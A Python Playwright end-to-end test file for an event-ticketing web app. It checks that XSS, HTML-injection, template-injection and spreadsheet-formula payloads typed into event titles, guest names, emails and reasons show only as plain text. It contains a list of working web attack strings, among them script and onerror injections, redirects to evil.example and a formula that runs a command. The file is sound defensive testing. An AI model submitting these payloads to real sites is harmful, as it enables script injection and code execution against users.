"""What people type is shown as it was typed, on every page, and never run."""

from collections.abc import AsyncIterator, Iterator
from contextlib import AsyncExitStack, asynccontextmanager
from typing import Final

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page, expect

from tests.e2e.browser import DESK, Visit, nothing_goes_wrong, visit, visitor
from tests.e2e.house import House, furnished
from tests.e2e.scenes import GUESTS, ORGANISERS, Scene, opening_everything
from tests.e2e.steps import open_event, revise, sign_in
from tests.server import Server
from tests.web.api import Api

pytestmark = pytest.mark.asyncio(loop_scope="session")

PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<svg><script>alert(1)</script></svg>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    '" style="position:fixed;inset:0;background:red',
    '" hx-on::load="alert(1)" x="',
    '" hx-get="/ui" hx-trigger="load" x="',
    '"><div sse-connect="//evil.example" hx-ext="sse">',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<form action=//evil.example><button>Win",
    "<a href=javascript:alert(1)>Win</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</title><style>*{display:none}</style>",
    "{{ 7*7 }}${7*7}<%= 7*7 %>{% raw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&amp;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "]]><script>alert(1)</script>",
    "=HYPERLINK(1)+cmd|' /C calc'!A0",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "a/../b?c#d&e=f",
)
EMAILS: Final = tuple(f"{local}@example.org" for local in ("'/**/", "`x`", "{{7*7}}", "&lt&amp", "'=a|b"))


TAIL: Final = """ '"`></title></textarea><!--><img src=x onerror=alert(1)><script>alert(1)</script>{{7*7}}"""
"""What every text of a house ends with: something for each place that a text may stand in."""

INJECTED: Final = """img[src=x], iframe, object, base, style, script:not([src]), meta[http-equiv], form[action^="//"],
    [style], [onerror], [onload], [onfocus], [sse-connect^="//"]"""
"""What there would be on a page if it took words for markup."""


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    """A house in which all words are hostile, and events with each payload as their id, title, place and description.

    At one of them, guests are called by the payloads; half of them have come in at gates, and half have cancelled for
    reasons that are called like this, too.
    """
    with Server(tmp_path_factory.mktemp("hostile")) as server:
        house = furnished(server, TAIL)
        for number, payload in enumerate(PAYLOADS):
            details = {"title": payload, "venue": payload, "description": f"{payload}\n\nhttps://example.org/{payload}"}
            house.names[f"event{number}"] = house.ada.event(payload, 2, **details)["slug"]
        house.ada.event("crowd", len(PAYLOADS))
        for number, payload in enumerate(PAYLOADS):
            order = house.order(
                "crowd", payload, called=f"guest{number}", email=EMAILS[number % len(EMAILS)], guest=payload
            )
            if number % 2:
                house.do(f"POST /orders/{order['id']}/check-in", gate=payload[:50])
            else:
                house.do(f"POST /orders/{order['id']}/cancellation", reason=payload)
        yield house


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def visits(chromium: Browser, house: House) -> AsyncIterator[dict[str, Visit]]:
    """The browsers of everybody, by who it is."""
    async with AsyncExitStack() as opened:
        visits = {"nobody": await opened.enter_async_context(visit(chromium, house.server))}
        for who, cookies in house.cookies.items():
            coming = visit(chromium, house.server, cookies=cookies, viewport=DESK)
            visits[who] = await opened.enter_async_context(coming)
        yield visits


def words(text: str) -> str:
    """A text as it is compared: however its white space is."""
    return " ".join(text.split())


@asynccontextmanager
async def nothing_runs(visit: Visit) -> AsyncIterator[Page]:
    """A page in somebody's browser, on which nothing that was typed may be more than words. Raises AssertionError."""
    page, complaints = visit
    complaints.clear()
    yield page
    assert await page.locator(INJECTED).count() == 0
    await nothing_goes_wrong(page, complaints)


async def read(page: Page) -> str:
    """All that is to be read on a page."""
    await opening_everything(page, {})
    return words(await page.locator("body").inner_text())


@pytest.mark.parametrize("scene", [*GUESTS, *ORGANISERS], ids=lambda scene: scene.name)
async def test_nothing_that_was_typed_runs_on(house: House, visits: dict[str, Visit], scene: Scene) -> None:
    async with nothing_runs(visits[scene.who]) as page:
        await page.goto(scene.address.format(**house.names))
        if scene.act:
            await scene.act(page, house.names)
            await expect(page.locator("body")).to_contain_text(scene.reads)
        text = await read(page)
        assert scene.reads in text
        # Whatever is shown is shown as it was typed, and not as a part of it.
        assert text.count("{{7*7}}") == text.count(words(TAIL)), text


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
async def test_an_event_may_be_called_anything(house: House, visits: dict[str, Visit], number: int) -> None:
    payload, slug = PAYLOADS[number], house.names[f"event{number}"]
    async with nothing_runs(visits["nobody"]) as page:
        await page.goto(f"/ui/events/{slug}")
        assert (await read(page)).count(words(payload)) >= 4
        await expect(page).to_have_title(f"{words(payload)} – Fairlist")
    async with nothing_runs(visits["ada"]) as page:
        await page.goto(f"/ui/organise/events/{slug}/settings")
        assert words(payload) in await read(page)
        for label in ("Title", "Place"):
            await expect(page.get_by_label(label, exact=True)).to_have_value(payload)
        assert await page.get_by_label("Description").input_value() == f"{payload}\n\nhttps://example.org/{payload}"


async def read_all(page: Page, more: str) -> str:
    """All that is to be read on a page and on those that a link leads on to."""
    text = await read(page)
    while await (onward := page.get_by_role("link", name=more)).count():
        await onward.click()
        text += await read(page)
    return text


@pytest.mark.parametrize("address", ["/ui", "/ui/organise"])
async def test_events_are_listed_by_whatever_they_are_called(
    house: House, visits: dict[str, Visit], address: str
) -> None:
    async with nothing_runs(visits["ada"]) as page:
        await page.goto(address)
        text = await read_all(page, "More events")
    assert [payload for payload in PAYLOADS if words(payload) not in text] == []


@pytest.mark.parametrize(("address", "more", "times"), [("guests", "More guests", 1), ("ledger", "Older entries", 2)])
async def test_guests_are_listed_by_whatever_they_are_called(
    house: House, visits: dict[str, Visit], address: str, more: str, times: int
) -> None:
    async with nothing_runs(visits["ada"]) as page:
        await page.goto(f"/ui/organise/events/crowd/{address}")
        text = await read_all(page, more)
    assert [payload for payload in PAYLOADS if text.count(words(payload)) < times] == []


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
async def test_a_guest_may_be_called_anything(house: House, visits: dict[str, Visit], number: int) -> None:
    payload, names = PAYLOADS[number], house.names
    async with nothing_runs(visits["nobody"]) as page:
        await page.goto(names[f"guest{number}"])
        assert (await read(page)).count(words(payload)) >= 2  # the name, and the gate or the reason
    async with nothing_runs(visits["ada"]) as page:
        await page.goto(f"/ui/organise/events/crowd/check-in?order={names[f'guest{number}_id']}")
        assert (await read(page)).count(words(payload)) >= 2


async def test_what_comes_while_one_looks_is_but_words_too(chromium: Browser, server: Server) -> None:
    async with visitor(chromium, server) as guest, visitor(chromium, server, viewport=DESK) as ada:
        await sign_in(ada)
        await guest.goto("/ui")
        for payload in PAYLOADS[::5]:
            open_event(server, payload, 1)
            for page in (ada, guest):
                await expect(page.get_by_role("link", name="New: ")).to_have_text(f"New: {words(payload)}")
        open_event(server, "gig", len(PAYLOADS))
        await ada.goto("/ui/organise/events/gig")
        await guest.goto("/ui/events/gig")
        for payload in PAYLOADS[1::5]:
            Api(server).order("gig", payload, name=payload)
            await expect(ada.locator("#activity")).to_contain_text(payload)
            revise(server, "gig", title=payload)
            await expect(guest.get_by_role("heading", level=1)).to_have_text(payload)
        for page in (ada, guest):
            assert await page.locator(INJECTED).count() == 0
